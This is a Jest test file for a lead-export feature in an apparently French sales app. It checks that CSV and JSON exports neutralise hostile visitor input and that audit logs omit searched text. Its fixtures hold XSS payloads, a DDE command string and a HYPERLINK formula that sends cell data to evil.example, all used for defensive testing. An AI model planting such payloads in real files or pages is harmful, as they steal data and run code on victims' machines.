/** @jest-environment node */
import { expect, test } from "@jest/globals";
import { embeddedStoreForFile } from "../../../../test-utils/file-store";
import { makeLead } from "../../../../test-utils/leads";
import type { Lead } from "../../lead-store";
import { addNote, exportLeads, takeLead, type Actor, type ExportedLead } from "..";

// The export on the embedded engine, of leads written by hostile visitors: read as bytes (BOM,
// separator, line ends, neutralised cells) and as JSON, with one audit line naming the filter
// but never what was searched for.

const actor: Actor = { name: "ventes@exemple.fr", requestId: "req-7" };
const files = embeddedStoreForFile("lead-export-");

const long = "A".repeat(10_000);
const hostile = makeLead({
  firstName: "<script>alert(document.cookie)</script>",
  lastName: '"><img src=x onerror=alert(1)>',
  email: "-robot@exemple.fr",
  phone: "+33 1 23 45 67 89",
  company: '=HYPERLINK("http://evil.example/?d="&A1;"Voir")',
  message: `@SUM(1+1)*cmd|'/C calc'!A0 javascript:alert(1) ${long}`,
});
const sneaky = makeLead({
  firstName: "  =1+1",
  lastName: '"=2+2',
  company: "\t=3+3",
  message: `-${long}`,
});

/** Reads CSV as a spreadsheet does: `;` between cells, quotes around them, CRLF between rows. */
function cells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ";") {
      row.push(cell);
      cell = "";
    } else if (char === "\r" && text[i + 1] === "\n") {
      rows.push([...row, cell]);
      row = [];
      cell = "";
      i += 1;
    } else cell += char;
  }
  return rows;
}

/** What Excel or LibreOffice would take for a formula, leading blanks and quotes trimmed. */
const runnable = (cell: string) => /^[\t\r\n]|^[\s"]*[=+\-@]/.test(cell);

test("CSV: BOM, `;`, CRLF, a status column, and every hostile cell shown as text", async () => {
  for (const lead of [hostile, sneaky]) await files.store.leads.save(lead);
  const file = await exportLeads(files.store, actor, {}, "csv");
  expect(file.count).toBe(2);
  expect(file.filename).toMatch(/^demandes-\d{4}-\d\d-\d\d\.csv$/);

  const bytes = Buffer.from(file.body, "utf8");
  expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  const text = bytes.subarray(3).toString("utf8");
  expect(text.endsWith("\r\n")).toBe(true);
  // Every line is `"…";"…"`: quoted cells, the separator between them, nothing bare.
  for (const line of text.split("\r\n").slice(0, -1))
    expect(line).toMatch(/^"(?:[^"]|"")*"(?:;"(?:[^"]|"")*")*$/);

  const [header, first, second] = cells(text);
  expect(header?.slice(-2)).toEqual(["Statut", "Responsable"]);
  expect(header).toHaveLength(17);
  // Oldest first, as a register reads.
  expect(first?.[0]).toBe(hostile.id);
  expect(second?.[0]).toBe(sneaky.id);
  expect(first?.slice(-2)).toEqual(["nouvelle", ""]);
  for (const cell of [...first!, ...second!]) {
    if (runnable(cell)) expect(cell.startsWith("'")).toBe(true);
  }
  expect(first).toEqual(
    expect.arrayContaining([
      "<script>alert(document.cookie)</script>",
      '"><img src=x onerror=alert(1)>',
      "'-robot@exemple.fr",
      "'+33 1 23 45 67 89",
      `'=HYPERLINK("http://evil.example/?d="&A1;"Voir")`,
      `'@SUM(1+1)*cmd|'/C calc'!A0 javascript:alert(1) ${long}`,
    ]),
  );
  expect(second).toEqual(expect.arrayContaining(["'  =1+1", `'"=2+2`, "'\t=3+3", `'-${long}`]));
});

test("JSON: the same fields, the same values once parsed, no `<` in its text, no BOM", async () => {
  for (const lead of [hostile, sneaky]) await files.store.leads.save(lead);
  const file = await exportLeads(files.store, actor, {}, "json");
  expect(file.filename).toMatch(/\.json$/);
  expect(file.body.startsWith("[")).toBe(true);
  expect(file.body).not.toMatch(/[<>]/);
  const parsed = JSON.parse(file.body) as ExportedLead[];
  const expected = (lead: Lead): ExportedLead => ({
    id: lead.id,
    receivedAt: lead.receivedAt,
    ...lead.request,
    deliveries: { email: "pending", ack: null, webhook: "pending", teams: null, slack: null },
    quarantine: null,
    status: "new",
    owner: null,
    notes: [],
  });
  expect(parsed).toEqual([expected(hostile), expected(sneaky)]);
});

test("notes and owner: in the JSON always, in the CSV only when asked, never in the journal", async () => {
  const lead = makeLead({ company: "OPH de Quimper" });
  await files.store.leads.save(lead);
  await takeLead(files.store, actor, lead.id);
  await addNote(files.store, actor, lead.id, "Rappeler <lundi> =SOMME(A1)");
  const [json] = JSON.parse((await exportLeads(files.store, actor, {}, "json")).body) as [
    ExportedLead,
  ];
  expect(json.owner).toBe(actor.name);
  expect(json.notes).toEqual([
    {
      at: expect.any(String),
      author: actor.name,
      text: "Rappeler <lundi> =SOMME(A1)",
      kind: "note",
    },
  ]);
  const plain = (await exportLeads(files.store, actor, {}, "csv")).body;
  expect(plain).not.toContain("Rappeler");
  const withNotes = (await exportLeads(files.store, actor, {}, "csv", true)).body;
  expect(withNotes).toContain("Rappeler <lundi> =SOMME(A1)");
  const { entries } = await files.store.audit.page({ limit: 50, offset: 0 });
  expect(JSON.stringify(entries)).not.toContain("Rappeler");
  expect(entries[0]?.detail).toMatch(/^1 demande\(s\) en CSV avec les notes/);
});

test("the audit line says how many, in which format, and which filter, without the searched text", async () => {
  const claire = makeLead({ email: "claire.martin@oph-exemple.fr", firstName: "Claire" });
  const robot = { ...makeLead(), quarantine: { reason: "trop rapide" } };
  for (const lead of [claire, robot]) await files.store.leads.save(lead);

  const filtered = await exportLeads(
    files.store,
    actor,
    { status: "new", quarantine: "none", search: "Claire" },
    "csv",
  );
  expect(filtered.count).toBe(1);
  const person = await exportLeads(
    files.store,
    actor,
    { email: "CLAIRE.MARTIN@oph-exemple.fr" },
    "json",
  );
  expect(person.count).toBe(1);
  const all = await exportLeads(files.store, actor, { quarantine: "only" }, "csv");
  expect(all.count).toBe(1);

  const { entries } = await files.store.audit.page({ limit: 10, offset: 0 });
  expect(
    entries.map(({ action, leadId, detail, actor: who, requestId }) => ({
      action,
      leadId,
      detail,
      who,
      requestId,
    })),
  ).toEqual([
    {
      action: "export",
      leadId: null,
      detail: "1 demande(s) en CSV ; filtre : en quarantaine seulement",
      who: "ventes@exemple.fr",
      requestId: "req-7",
    },
    {
      action: "export",
      leadId: null,
      detail: "1 demande(s) en JSON ; filtre : les demandes d'une personne, par son adresse email",
      who: "ventes@exemple.fr",
      requestId: "req-7",
    },
    {
      action: "export",
      leadId: null,
      detail:
        "1 demande(s) en CSV ; filtre : statut nouvelle, hors quarantaine, recherche par texte",
      who: "ventes@exemple.fr",
      requestId: "req-7",
    },
  ]);
  expect(JSON.stringify(entries).toLowerCase()).not.toContain("claire");
});
